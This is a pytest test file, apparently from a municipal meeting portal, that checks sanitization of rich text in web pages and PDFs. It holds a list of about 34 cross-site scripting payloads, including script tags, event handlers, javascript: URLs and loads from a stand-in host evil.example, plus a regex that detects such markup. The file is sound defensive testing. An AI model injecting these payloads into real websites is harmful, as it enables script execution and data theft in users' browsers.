"""Rich text and titles from the secretariat (or pasted from Word) are harmless in pages and PDFs."""

import io
import re

import pytest
from pypdf import PdfReader

from meetings import rendering, services, visibility
from meetings.richtext import sanitize_html
from tests.factories import ItemFactory, MeetingFactory, SectionFactory

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">klik</a>',
    '<a href="JaVaScRiPt:alert(1)">klik</a>',
    '<a href="&#106;avascript:alert(1)">klik</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klik</a>',
    '<a href="vbscript:msgbox(1)">klik</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="width: expression(alert(1))">x</p>',
    "<style>@import 'http://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<table><tr><td onmouseover="alert(1)">celle</td></tr></table>',
    '<p onclick="alert(1)">tekst</p>',
    '"><script>alert(1)</script>',
    '<img src="http://evil.example/pixel.png">',
    '<base href="http://evil.example/">',
    "<!--<script>alert(1)</script>-->",
    '<p class="MsoNormal" style="mso-bidi-font-weight:bold"><o:p>Word</o:p><script>alert(1)</script></p>',
    "<xml><w:WordDocument></w:WordDocument></xml><p>Fra Word</p>",
    '<a href="https://kkr.dk" target="_blank" onclick="x()">sikkert link</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
]
DANGER = re.compile(
    r"<\s*(script|iframe|object|embed|style|link|meta|base|form|input|svg|math|img|body)\b"
    r"|\son[a-z]+\s*=|javascript:|vbscript:|data:text|expression\(|evil\.example",
    re.IGNORECASE,
)


def test_corpus_is_large_enough():
    assert len(PAYLOADS) >= 30


@pytest.mark.parametrize("payload", PAYLOADS)
def test_sanitizer_leaves_nothing_executable(payload):
    assert not DANGER.search(sanitize_html(payload)), sanitize_html(payload)


def test_word_markup_keeps_structure():
    pasted = (
        '<table class="MsoTableGrid" style="border-collapse:collapse"><tr>'
        '<td style="width:100pt"><p class="MsoNormal"><b>Aalborg</b></p></td><td>6.592</td></tr></table>'
        '<ul><li class="MsoListParagraph">første</li></ul>'
    )
    clean = sanitize_html(pasted)
    assert "<table>" in clean and "<td><p><b>Aalborg</b></p></td>" in clean
    assert "<li>første</li>" in clean and "class=" not in clean and "style=" not in clean


@pytest.fixture
def hostile_meeting(db):
    meeting = MeetingFactory(
        title='<script>alert("titel")</script>', location="<img src=x onerror=alert(1)>"
    )
    section = SectionFactory(meeting=meeting, title="<svg onload=alert(1)>")
    for index, payload in enumerate(PAYLOADS, start=1):
        ItemFactory(
            section=section,
            position=index,
            title=f"Punkt {payload}",
            background=payload,
            recommendation=payload,
            presentation=payload,
        )
    services.meeting_publish(meeting=meeting)
    return meeting


def test_pages_render_the_corpus_harmless(hostile_meeting, client_for):
    for role in ("anonymous", "secretariat"):
        html = client_for(role).get(hostile_meeting.get_absolute_url()).content.decode()
        main = html.split('id="indhold"', 1)[1]
        # Everything the payloads brought is either removed or shown as text, never as markup.
        for tag in re.findall(r"<[a-z]+\b[^>]*>", main, flags=re.IGNORECASE):
            assert not re.search(r"\son[a-z]+\s*=|javascript:|evil\.example", tag, re.I), tag
        # The only scripts are the portal's own static files and json_script data (the notes
        # panel); no payload becomes a script.
        for match in re.finditer(r"<script\b([^>]*)>(.*?)</script>", main, flags=re.I | re.S):
            attrs, body = match.groups()
            if 'type="application/json"' in attrs:
                assert "<" not in body, match.group(0)  # json_script escapes < as \u003C
                continue
            assert re.search(r'\ssrc="/static/', attrs) and not body.strip(), match.group(0)


def test_pdfs_render_the_corpus_harmless(hostile_meeting):
    version = hostile_meeting.versions.get()
    for kind, _variant, data in rendering.package_documents(visibility.frozen_package(version)):
        if kind != "dagsorden":
            continue
        reader = PdfReader(io.BytesIO(data))
        text = "\n".join(page.extract_text() or "" for page in reader.pages)
        # Titles are printed as text; no JavaScript action or launch action is in the file.
        assert "<script>alert(1)</script>" in text.replace("\n", "")  # a title, shown as text
        assert b"/JavaScript" not in data and b"/JS " not in data and b"/Launch" not in data
        for page in reader.pages:
            for annotation in page.get("/Annots") or []:
                uri = annotation.get_object().get("/A", {}).get("/URI", "")
                assert not str(uri).lower().startswith(("javascript", "data", "vbscript")), uri
